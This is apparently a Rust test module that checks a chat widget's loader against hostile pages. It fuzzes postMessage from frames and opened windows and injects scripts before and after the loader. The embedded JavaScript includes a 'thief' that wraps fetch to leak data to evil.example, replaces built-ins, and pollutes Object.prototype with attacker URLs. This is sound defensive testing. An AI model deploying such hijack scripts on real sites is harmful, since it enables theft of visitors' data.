//! Messages of everybody who can send one, and pages that rewrite what the loader stands on.

use super::guest::until;
use super::{Guest, Host, SITE, Stage, Verdict};
use crate::front::{CHAT_HOST, CHAT_ORIGIN};
use std::collections::BTreeSet;
use std::time::Duration;

/// A stranger's site.
const STRANGER: &str = "evil.example";

/// Sends two hundred messages, random and crafted, to a window: `send(window, channel, seed)`. The channel is the right
/// one where the sender may know it.
const SEND: &str = "function send(to, channel, seed) { \
    function dice() { seed = (seed * 1103515245 + 12345) % 2147483648; return seed; } \
    function junk(depth) { \
      var n = dice() % 11; \
      if (n > 7 && depth < 4) return [junk(depth + 1), junk(depth + 1), junk(depth + 1)]; \
      return [0, 1, -1, null, undefined, 'open', 'constructor', { toString: 1, length: 9, __proto__: null }, NaN, true, ''][n]; } \
    var kinds = ['hello', 'page', 'seen', 'scroll', 'left', 'flung', 'view', 'consent', 'login', 'set', 'call', 'do', 'answer', 'timer', 'tab', 'words', \
      'escape', 'typed', 'focus', 'network', 'hidden', 'back', 'popstate', 'ready', 'place', 'name', 'tick', 'record', 'event', 'reply', 'gone', \
      'constructor', '__proto__', 'toString', 'hasOwnProperty', '']; \
    for (var n = 0; n < 200; n++) { \
      var kind = kinds[n % kinds.length], message; \
      if (n < 60) message = [1, channel, kind, junk(0), junk(0), junk(0), junk(0), junk(0)]; \
      else if (n < 90) message = [2, channel, kind, junk(0)]; \
      else if (n < 120) message = [1, channel + '0', kind, junk(0)]; \
      else if (n < 140) message = { 0: 1, 1: channel, 2: kind, length: 3 }; \
      else if (n < 160) message = JSON.stringify([1, channel, kind]); \
      else message = junk(0); \
      to.postMessage(message, '*'); } }";

/// What a stranger's document does with what comes back.
const LISTEN: &str = "var heard = 0; addEventListener('message', function () { heard += 1; });";

/// The state of the chat and of the page, as far as it can be seen.
fn state(guest: &Guest) -> Result<String, String> {
    let seen = guest.sees()?;
    let page = guest.page(
        "(function () { var frame = document.querySelector('iframe[src*=\"/f/\"]'); \
           /* The seconds on the site go on. */ \
           var record = document.cookie.replace(/(usher=(?:[^.]*\\.){3})[^.]*/, '$1'); \
           return [frame.getAttribute('style'), frame.title, record, location.href, document.querySelectorAll('[inert]').length, \
           window[Symbol.for('events')]].join('|'); })()",
    )?;
    Ok(format!("{seen:?} {page}"))
}

/// Check 25, messages from the page, from another frame, from a window it has opened, in both directions.
///
/// # Errors
/// What changed, or what else is wrong.
pub fn messages(stage: &Stage) -> Verdict {
    let guest = stage.guest()?;
    guest.serves_at(
        STRANGER,
        "/frame",
        &Host::source(&format!(
            "<!doctype html><title>A stranger</title><script>{SEND} {LISTEN}</script>"
        )),
    );
    guest.serves(
        "/",
        &Host::with(
            "<script>(function () { var events = 0; ['shown', 'opened', 'goal', 'engaged', 'completed', 'forged'].forEach(function (name) { \
               addEventListener('usher:' + name, function () { events += 1; }); }); \
               Object.defineProperty(window, Symbol.for('events'), { get: function () { return events; } }); })();</script>",
            &format!("<iframe name=\"stranger\" src=\"https://{STRANGER}/frame\"></iframe>"),
        ),
    );
    guest.visits("/")?;
    guest.answers("Yes")?;
    guest.reads("Your address?")?;
    until(Duration::from_secs(5), || {
        Ok(guest.diary().is_quiet(Duration::from_millis(400)))
    })?;
    let before = state(&guest)?;
    let requests = guest.diary().count();
    let channel = guest
        .page("document.querySelector('iframe[src*=\"/f/\"]').src.split('#')[1].split('!')[0]")?;
    let channel = channel.as_str().unwrap_or_default().to_owned();
    let same = |who: &str| -> Result<(), String> {
        std::thread::sleep(Duration::from_millis(300));
        let after = state(&guest)?;
        if after != before {
            return Err(format!("{who} changed {before} to {after}"));
        }
        let more = guest.diary().count() - requests;
        if more > 0 {
            return Err(format!("{who} led to {more} requests"));
        }
        Ok(())
    };
    // The page: to the chat without its channel; to itself with it, as if the chat had spoken.
    let frame = "document.querySelector('iframe[src*=\"/f/\"]').contentWindow";
    guest.page(&format!(
        "(function () {{ {SEND} send({frame}, 'guessed', 7); }})()"
    ))?;
    same("the page, to the chat")?;
    guest.page(&format!(
        "(function () {{ {SEND} send(window, '{channel}', 8); }})()"
    ))?;
    same("the page, to itself")?;
    // What only the visitor, the server or the clock can say, with the right channel.
    guest.page(&format!(
        "(function () {{ ['do', 'answer', 'timer', 'tab', 'words', 'escape', 'typed', 'focus', 'network', 'hidden', 'back', 'popstate', '', 'constructor'] \
           .forEach(function (kind) {{ [[0], ['restart-now'], [1, 200, new Uint8Array([1, 0])]].forEach(function (rest) {{ \
             {frame}.postMessage([1, '{channel}', kind].concat(rest), '{CHAT_ORIGIN}'); }}); }}); }})()"
    ))?;
    same("the page, for its visitor")?;
    // A frame of a stranger: to the chat, and to the page.
    let stranger = guest
        .window()
        .documents()?
        .into_iter()
        .find(|document| document.address.contains(STRANGER))
        .ok_or("the stranger's frame is not there")?;
    let strange = |expression: &str| guest.window().evaluate(&stranger.id, expression);
    strange(&format!("send(parent, '{channel}', 9)"))?;
    same("a frame, to the page")?;
    strange(&format!(
        "[].forEach.call([parent.frames[0], parent.frames[1]], function (one) {{ if (one !== window) send(one, '{channel}', 10); }})"
    ))?;
    same("a frame, to the chat")?;
    if strange("heard")? != 0 {
        return Err("the stranger's frame was answered".into());
    }
    // A window that the page has opened: to its opener, and to the chat in it.
    guest.serves_at(
        STRANGER,
        "/window",
        &Host::source(&format!(
            "<!doctype html><title>A stranger</title><script>{SEND} {LISTEN} \
             send(opener, '{channel}', 10); for (var n = 0; n < opener.length; n++) send(opener.frames[n], '{channel}', 11 + n); \
             setTimeout(function () {{ fetch('https://{STRANGER}/heard?' + heard, {{ mode: 'no-cors' }}); }}, 300);</script>"
        )),
    );
    let told = std::sync::Arc::new(std::sync::Mutex::new(None::<String>));
    let noting = std::sync::Arc::clone(&told);
    guest.weather().answer(STRANGER, "/heard", move |request| {
        if let Ok(mut told) = noting.lock() {
            *told = request.uri.query().map(str::to_owned);
        }
        hyper::Response::default()
    });
    guest.page(&format!(
        "(window[Symbol.for('opened')] = window.open('https://{STRANGER}/window')) ? 1 : 0"
    ))?;
    let heard = || told.lock().map(|told| told.clone()).unwrap_or_default();
    if !until(Duration::from_secs(6), || Ok(heard().is_some()))? {
        return Err("the stranger's window did not speak".into());
    }
    guest.page("window[Symbol.for('opened')].close(), 0")?;
    // The browser comes back to this tab as that one goes.
    until(Duration::from_secs(3), || {
        guest.window().show().map(|()| true)
    })?;
    same("a window, to its opener")?;
    if heard().as_deref() != Some("0") {
        return Err("the stranger's window was answered".into());
    }
    guest.types("ada@corp.example")?;
    guest.reads("Thank you.")?;
    guest.proves(1)?;
    guest.leaves("1,200 messages: nothing changed, nobody was answered, the conversation goes on")
}

/// Sends what it can reach to a stranger, and puts itself in the place of what is built in.
const THIEF: &str = "(function () { \
    var real = window.fetch; \
    function leak(what) { try { real('https://evil.example/leak?' + what, { mode: 'no-cors' }); } catch (away) { } } \
    window.fetch = function (address) { leak('fetch'); return real.call(window, 'https://evil.example/' + address); }; \
    window.JSON = { parse: function () { return { o: 'https://evil.example', w: 'evil' }; }, stringify: function () { return ''; } }; \
    window.Promise = function (run) { run(function () {}, function () {}); this.then = function () { return this; }; }; \
    ['slice', 'concat', 'join', 'some', 'filter', 'map', 'forEach', 'push', 'splice'].forEach(function (name) { \
      var own = Array.prototype[name]; \
      Array.prototype[name] = function () { return own.apply(this, arguments); }; }); \
    var heard = EventTarget.prototype.addEventListener; \
    EventTarget.prototype.addEventListener = function (name, f) { return heard.apply(this, arguments); }; \
    String.prototype.split = (function (own) { return function () { return own.apply(this, arguments); }; })(String.prototype.split); \
    window[Symbol.for('watch')].again(); })();";

/// Values that turn up where an option is missing.
const POLLUTION: &str = "(function () { \
    ['w', 'o', 'c', 'r', 'v', 'n', 'q', 'origin', 'workspace', 'server', 'src', 'url', 'host', 'channel', 'consent', 'token', 'login', 'link', 'test', \
     'version', 'popover', 'allow', 'title', 'passive', 'detail', 'shown', 'why', 'state', 'height', 'scale', 'offsetTop', 'open', 'toggle'] \
      .forEach(function (name) { Object.prototype[name] = 'https://evil.example/' + name; }); \
    window[Symbol.for('watch')].again(); })();";

/// Check 25, pages that rewrite what the loader stands on: whatever becomes of us, only our own server is asked.
///
/// # Errors
/// What is wrong.
pub fn overrides(stage: &Stage) -> Verdict {
    let plain = paths(&stage.guest()?, "", "")?;
    let mut seen = Vec::new();
    for (name, before, after) in [
        ("a thief before", THIEF, ""),
        ("a thief after", "", THIEF),
        ("options on every object", POLLUTION, ""),
        ("options on every object, late", "", POLLUTION),
    ] {
        let guest = stage.guest()?;
        let asked = paths(&guest, before, after).map_err(|why| format!("{name}: {why}"))?;
        let strangers: Vec<String> = guest
            .weather()
            .hosts()
            .into_iter()
            .filter(|host| host != SITE && host != CHAT_HOST)
            .collect();
        if !strangers.is_empty() {
            return Err(format!("{name}: {strangers:?} were asked"));
        }
        let more: Vec<&String> = asked.difference(&plain).collect();
        if !more.is_empty() {
            return Err(format!("{name}: we asked for {more:?} as well"));
        }
        let there = guest.sees()?.form.is_some();
        if there {
            guest.works().map_err(|why| format!("{name}: {why}"))?;
        }
        guest.leaves("").map_err(|why| format!("{name}: {why}"))?;
        seen.push(format!(
            "{name}: {}",
            if there { "there" } else { "absent" }
        ));
    }
    Ok(seen.join(", "))
}

/// What is asked of us on a page with scripts before and after ours; the workspace's name left out.
fn paths(guest: &Guest, before: &str, after: &str) -> Result<BTreeSet<String>, String> {
    let host = Host::with(&format!("<script>{before}</script>"), "").tag(&format!(
        "<script src=\"{{{{loader}}}}\"></script><script>{after}</script>"
    ));
    guest.serves("/", &host);
    guest.visits("/")?;
    until(Duration::from_secs(3), || Ok(guest.sees()?.form.is_some()))?;
    until(Duration::from_secs(3), || {
        Ok(guest.diary().is_quiet(Duration::from_millis(300)))
    })?;
    let asked = guest.diary().requests().into_iter();
    Ok(asked
        .map(|request| {
            let place = request.path.replace(&guest.workspace, "");
            // Indices are named by what is in them.
            match place.strip_prefix("/e//") {
                Some(file) if !file.contains('.') => "/e//index".into(),
                _ => place,
            }
        })
        .collect())
}
